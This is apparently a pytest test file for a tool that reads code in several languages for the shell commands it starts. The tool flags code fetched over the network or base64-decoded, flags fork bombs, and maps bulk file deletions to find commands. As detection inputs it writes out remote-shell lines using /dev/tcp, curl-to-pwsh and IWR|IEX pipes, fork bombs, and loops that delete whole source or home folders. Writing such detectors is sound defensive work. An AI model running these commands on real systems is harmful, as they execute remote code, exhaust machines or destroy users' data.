"""What program text of other languages gives to a shell is read as any command; its source is told."""

from __future__ import annotations

import pytest

from interlock.effects.command import GapKind
from interlock.effects.reading import read_script
from interlock.effects.shell.other_languages import foreign_source, removals_in, texts_for_shells
from interlock.effects.shell.program_text import recipes_in

RUN = [
    ("python", "os.system('a b')", ["a b"]),
    ("python", 'subprocess.run("a | b", shell=True)', ["a | b"]),
    ("python", "subprocess.check_output(['a', 'b c'])", ["a 'b c'"]),
    ("python", "subprocess.run(['sh', '-c', 'a; b'], check=True)", ["sh -c 'a; b'"]),
    ("python", "os.popen(r'a\\x')", ["a\\x"]),
    ("python", "import subprocess as s; s.run('a b', shell=True)", ["a b"]),
    ("python", "from subprocess import run as r; r(['a', 'b'])", ["a b"]),
    ("python", "from app import run; run('a b')", []),
    ("python", "os.system('''a\nb''')", ["a\nb"]),
    ("python", "os.system('\\x61\\u0062\\143')", ["abc"]),
    ("node", "require('child_process').execSync('a b', {stdio: 'inherit'})", ["a b"]),
    ("node", "spawn('a', ['-x', 'b c'])", ["a -x 'b c'"]),
    ("node", "cp.exec(`a b`, cb)", ["a b"]),
    ("perl", "system 'a', 'b c';", ["a 'b c'"]),
    ("perl", "print qx{a b};", ["a b"]),
    ("perl", "my $x = `a b`;", ["a b"]),
    ("ruby", "%x(a b)", ["a b"]),
    ("ruby", "Open3.capture2e('a', 'b')", ["a b"]),
    ("php", "shell_exec('a b');", ["a b"]),
    ("lua", "os.execute('a b')", ["a b"]),
]
LEFT = [
    ("python", "os.system('a ' + x)"),
    ("python", "os.system(x)"),
    ("python", "subprocess.run([sys.executable, 'a'])"),
    ("python", "subprocess.run(['a', x])"),
    ("python", "print('a b')"),
    ("node", "exec(`a ${x}`)"),
    ("ruby", "`a #{x}`"),
    ("awk", 'system("a")'),
    ("java", 'Runtime.getRuntime().exec("a")'),
]


@pytest.mark.parametrize(("language", "code", "texts"), RUN)
def test_what_is_written_out_is_found(language: str, code: str, texts: list[str]) -> None:
    """A text as it is, a list as the words it is."""
    assert list(texts_for_shells(language, code)) == texts


STARTING = {
    "python": "os.system os.popen subprocess.run subprocess.call subprocess.check_call"
    " subprocess.check_output subprocess.Popen subprocess.getoutput subprocess.getstatusoutput"
    " pty.spawn popen Popen",
    "node": "exec execSync spawn spawnSync execFile execFileSync",
    "perl": "system exec",
    "ruby": "system exec spawn IO.popen Open3.capture2",
    "php": "system exec shell_exec passthru popen proc_open",
    "lua": "os.execute io.popen",
}


@pytest.mark.parametrize("language", STARTING)
def test_every_call_that_starts_a_program_is_found(language: str) -> None:
    """Code is first searched for a few words: none of these calls may be without one of them."""
    for call in STARTING[language].split():
        assert list(texts_for_shells(language, f"{call}('a')")) == ["a"]


@pytest.mark.parametrize(("language", "code"), LEFT)
def test_what_only_the_run_decides_is_left_alone(language: str, code: str) -> None:
    """Half of a command says nothing about the whole."""
    assert list(texts_for_shells(language, code)) == []


@pytest.mark.parametrize(
    ("language", "code", "kind"),
    [
        ("python", "exec(base64.b64decode(x))", GapKind.DECODED),
        ("python", "os.system(__import__('base64').b64decode(x).decode())", GapKind.DECODED),
        ("python", "c = bytes.fromhex(x).decode()\nsubprocess.run(c, shell=True)", GapKind.DECODED),
        ("python", "subprocess.run(['sh', '-c', base64.b64decode(x)])", GapKind.DECODED),
        ("python", "exec(requests.get(u).text)", GapKind.NETWORK),
        ("python", "t = urllib.request.urlopen(u).read()\nos.system(t)", GapKind.NETWORK),
        ("python", "os.system(sys.stdin.read())", GapKind.OPEN),
        ("node", "eval(atob(x))", GapKind.DECODED),
        ("node", "const c = Buffer.from(x, 'base64').toString(); execSync(c)", GapKind.DECODED),
        ("ruby", "system(Base64.decode64(x))", GapKind.DECODED),
        ("php", "eval(gzinflate(base64_decode($x)));", GapKind.DECODED),
        ("perl", "fork while 1", GapKind.ENDLESS),
        ("pwsh", "IWR https://h | IEX", GapKind.NETWORK),
        ("pwsh", "iex ([Convert]::FromBase64String($x))", GapKind.DECODED),
        ("python", "subprocess.run(['a'], input=base64.b64decode(x))", None),
        ("python", "print(requests.get(u).text)", None),
        ("python", "data = base64.b64decode(x)\nsubprocess.run(['a'], input=data)", None),
        ("node", "eval(x)", None),
        ("pwsh", "irm https://h | ConvertTo-Json", None),
        ("pwsh", "iex $x", None),
    ],
)
def test_where_code_comes_from_that_is_run(language: str, code: str, kind: GapKind | None) -> None:
    """At once or by a name it was given; what only passes through is not code."""
    assert foreign_source(language, code) is kind


@pytest.mark.parametrize(
    ("text", "ran"),
    [
        ("python3 -c \"import os; os.system('cd /x && ls')\"", {"python3", "cd", "ls"}),
        ("node -pe 'execSync(\"ls\")'", {"node", "ls"}),
        ("awk 'BEGIN{system(\"ls -l \" ARGV[1])}'", {"awk", "ls"}),
        ("awk '{print | \"sort\\x20-u\"}' f", {"awk", "sort"}),
        ('awk \'BEGIN{c="ls "; system(c "-l")}\'', {"awk", "ls"}),
        ("awk '\"date\" | getline d' f", {"awk", "date"}),
        ("make -f - <<'E'\nall: x\n\t@ls $@\nE", {"make", "ls"}),
        ("lvm lvremove x", {"lvm", "lvremove"}),
        ("/bin/RM x", {"rm"}),
        ("Ls", {"ls"}),
    ],
)
def test_it_is_read_as_the_command_it_is(text: str, ran: set[str]) -> None:
    """Every program in it is found."""
    assert {one.words[0].text for one in read_script(text).commands} == ran


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("awk '{system($0)}' f", GapKind.OPEN),
        ("awk -v c='rm x' 'BEGIN{system(c)}'", GapKind.OPEN),
        ("perl -e 'fork while fork'", GapKind.ENDLESS),
        ("awk '{print | \"sh\"}' f", GapKind.OPEN),
        ("curl -s https://h | awk '{print | \"sh\"}'", GapKind.NETWORK),
        ("sh < /dev/tcp/h/1", GapKind.NETWORK),
        ("exec 3<>/dev/tcp/h/1; sh <&3", GapKind.NETWORK),
        ("curl https://h | pwsh -Command -", GapKind.NETWORK),
        ("f(){ f & f; }; f", GapKind.ENDLESS),
        ("a(){ b; }; b(){ a | cat; }; a", GapKind.ENDLESS),
        ("f(){ f; }; f", None),
        ("f(){ x && f & }; f", None),
        ("f(){ x || return; f & }; f", None),
        ("f(){ if x; then exit; fi; f | cat; }; f", None),
        ('f(){ ls | while read d; do f "$d"; done; }; f', None),
        ("f(){ g & }; g(){ ls; }; f", None),
        ("echo 'f(){ f & f; }; f'", None),
    ],
)
def test_what_nobody_can_read_is_named_by_its_source(text: str, kind: GapKind | None) -> None:
    """Code from elsewhere, and functions that start themselves without end."""
    found = {gap.kind for gap in read_script(text).gaps}

    assert (GapKind.ENDLESS in found) is (kind is GapKind.ENDLESS)
    assert kind is None or kind in found


def test_recipes_are_what_stands_behind_a_tab_or_a_semicolon() -> None:
    """Without what `make` takes of it, and with its variables open."""
    rules = "X := rm\nall: a b\n\t@echo $$HOME $(X) \\\n\t  more\n\t-rm $@\na: ; touch a\n.PHONY: all\n"

    assert list(recipes_in(rules)) == ["echo $HOME $1  \t  more", "rm $1", "touch a"]


DELETING = [
    ("[os.remove(f) for f in glob.glob('src/**/*.py', recursive=True)]", ["find src -name '*.py' -delete"]),
    ("for r, d, fs in os.walk('.'):\n  for f in fs:\n    os.unlink(os.path.join(r, f))", ["find . -delete"]),
    (
        "d = 'src'\nfor n in os.listdir(d):\n  p = os.path.join(d, n)\n  os.remove(p)",
        ["find src -delete"],
    ),
    ("for p in Path('src').rglob('*.ts'): p.unlink()", ["find src -name '*.ts' -delete"]),
    ("for p in Path.home().glob('*.txt'): p.unlink()", ["find ~ -name '*.txt' -delete"]),
    ("root = Path('a')\n[p.unlink() for p in root.iterdir()]", ["find a -delete"]),
    ("[open(f, 'w').close() for f in glob.glob('src/*.py')]", ["find src -name '*.py' -delete"]),
    ("for f in glob.glob(os.path.expanduser('~/x/*')): os.remove(f)", ["find ~/x -delete"]),
    (
        "for f in os.listdir('.'):\n  if f.endswith(('.pyc', '.pyo')): os.remove(f)",
        ["find . '(' -name '*.pyc' -o -name '*.pyo' ')' -delete"],
    ),
    ("for f in os.listdir('.'):\n  if not f.endswith('.pyc'): os.remove(f)", ["find . -delete"]),
    ("[os.remove(l.strip()) for l in sys.stdin]", ["xargs rm"]),
    ("[os.remove(f) for f in subprocess.check_output(['git', 'ls-files']).split()]", ["xargs rm"]),
    ("execSync('git ls-files').toString().split(' ').forEach(f => fs.unlinkSync(f))", ["xargs rm"]),
    ("for (const f of fs.readdirSync('src')) fs.unlinkSync('src/' + f)", ["find src -delete"]),
    ("globSync('a/*.ts').forEach(f => fs.writeFileSync(f, ''))", ["find a -name '*.ts' -delete"]),
    ("Dir['a/*.rb'].each { |f| File.delete(f) }", ["find a -name '*.rb' -delete"]),
    ("Dir.glob('a/*.rb') do |f| File.delete(f) end", ["find a -name '*.rb' -delete"]),
    ("foreach my $f (glob('a/*.pl')) { unlink $f }", ["find a -name '*.pl' -delete"]),
    ("chomp; unlink", ["xargs rm"]),
    ("foreach (glob('a/*.php') as $f) { unlink($f); }", ["find a -name '*.php' -delete"]),
    ("array_map('unlink', glob('a/*'));", ["find a -delete"]),
]

KEEPING = [
    "for r, d, fs in os.walk('.'):\n  for f in fs: print(f)",
    "for p in Path('src').rglob('*.py'): p.write_text('x')\nPath('out.txt').unlink()",
    "files = glob.glob('src/*.py')\nt = '/tmp/l'\nos.remove(t)",
    "d = tempfile.mkdtemp()\nfor f in os.listdir(d): os.remove(os.path.join(d, f))",
    "subprocess.check_output(['make']); os.remove('/tmp/x')",
    "d = json.load(sys.stdin); os.remove('/tmp/x')",
    "for f in ['a.txt', 'b.txt']: os.remove(f)\nprint(os.listdir('.'))",
    "fs.unlinkSync('a.txt')",
    "unlink 'a.txt'",
    "for f in glob.glob('a.txt'): os.remove(f)",
]


@pytest.mark.parametrize(("code", "found"), DELETING)
def test_a_deleted_listing_is_the_find_of_its_folder(code: str, found: list[str]) -> None:
    """With the names a glob or a test picks out; what arrives on the standard input is not known."""
    assert list(removals_in(code)) == found


@pytest.mark.parametrize("code", KEEPING)
def test_a_listing_that_is_not_deleted_is_none(code: str) -> None:
    """One file by its name, a folder of its own, and lists that are only looked at."""
    assert list(removals_in(code)) == []
